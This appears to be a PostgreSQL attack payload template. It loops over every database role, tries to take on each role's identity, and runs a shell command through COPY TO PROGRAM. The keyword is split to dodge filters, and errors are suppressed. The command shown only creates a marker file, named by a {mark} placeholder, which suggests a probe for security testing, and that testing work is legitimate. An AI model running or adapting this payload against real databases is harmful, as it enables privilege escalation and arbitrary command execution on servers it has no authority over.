DO $$ DECLARE r text; BEGIN
    FOR r IN SELECT rolname FROM pg_roles LOOP
        BEGIN
            EXECUTE 'SET SESSION AUTHORIZATION ' || quote_ident(r);
            EXECUTE 'COPY (SELECT 1) TO PRO' || 'GRAM ''touch {mark}''';
        EXCEPTION WHEN OTHERS THEN NULL;
        END;
    END LOOP;
END $$;
